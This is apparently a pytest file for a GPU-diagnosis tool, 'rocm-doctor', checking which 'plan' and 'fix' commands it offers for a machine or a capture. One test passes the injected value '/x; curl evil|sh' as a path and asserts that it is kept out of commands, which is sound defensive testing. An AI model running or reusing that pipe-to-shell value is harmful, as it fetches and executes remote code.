"""What a finding tells to type fits the machine: `plan` with the GPU of a capture, `fix` where an environment is examined."""

from __future__ import annotations

import pytest

from rocm_doctor.cures.offer import offer_commands
from rocm_doctor.matrix import load
from rocm_doctor.model import Fact, Finding, Gpu, Snapshot, Value

MATRIX = load()


def offered(kind: str, facts: dict[str, Value], gfx: str | None = "gfx1151") -> Finding:
    gpus = (Gpu({"gfx": Fact(gfx)}),) if gfx else ()
    snapshot = Snapshot({name: Fact(value) for name, value in facts.items()}, gpus)
    typed, verify = MATRIX.classify(["rocm-doctor plan", "uname -r"]), MATRIX.classify(['python -c "import torch"', "rocminfo"])
    one = Finding("arch.not-in-build", "title", "error", "high", "cause", commands=typed, verify=verify)
    return offer_commands([one], snapshot, kind, MATRIX, python=True)[0]  # type: ignore[arg-type]


def commands(kind: str, facts: dict[str, Value], gfx: str | None = "gfx1151") -> list[str]:
    return [one.text for one in offered(kind, facts, gfx).commands]


def test_a_live_environment_is_offered_fix() -> None:
    found = commands("machine", {"python.env": "venv", "python.prefix": "/home/me/my venv"})
    assert found == ["rocm-doctor plan", "rocm-doctor fix --python '/home/me/my venv' --apply", "uname -r"]


@pytest.mark.parametrize("env", ["system", "conda", None])
def test_where_fix_cannot_act_it_is_not_offered(env: str | None) -> None:
    assert commands("machine", {"python.env": env, "python.prefix": "/usr"}) == ["rocm-doctor plan", "uname -r"]


def test_a_capture_names_its_machine() -> None:
    found = commands("capture", {"platform": "windows", "python.version": "3.12.4"})
    assert found[0] == "rocm-doctor plan --gpu gfx1151 --os windows --python 3.12"
    assert commands("capture", {"wsl": True})[0] == "rocm-doctor plan --gpu gfx1151 --os wsl"


def test_a_capture_without_a_gpu_keeps_the_plain_command() -> None:
    assert commands("capture", {"python.version": "3.12.4"}, None)[0] == "rocm-doctor plan"


def test_a_prefix_that_is_no_path_is_not_put_into_a_command() -> None:
    assert commands("machine", {"python.env": "venv", "python.prefix": "/x; curl evil|sh"}) == ["rocm-doctor plan", "uname -r"]


@pytest.mark.parametrize(
    ("kind", "prefix", "python"),
    [
        ("machine", "/srv/train/.venv", "/srv/train/.venv/bin/python"),
        ("machine", "/srv/my env", "'/srv/my env'/bin/python"),
        ("capture", "/srv/train/.venv", "python"),
    ],
)
def test_what_verifies_a_cure_runs_in_the_interpreter_that_was_examined(kind: str, prefix: str, python: str) -> None:
    one = offered(kind, {"python.prefix": prefix, "platform": "linux"})
    assert [c.text for c in one.verify] == [f'{python} -c "import torch"', "rocminfo"]
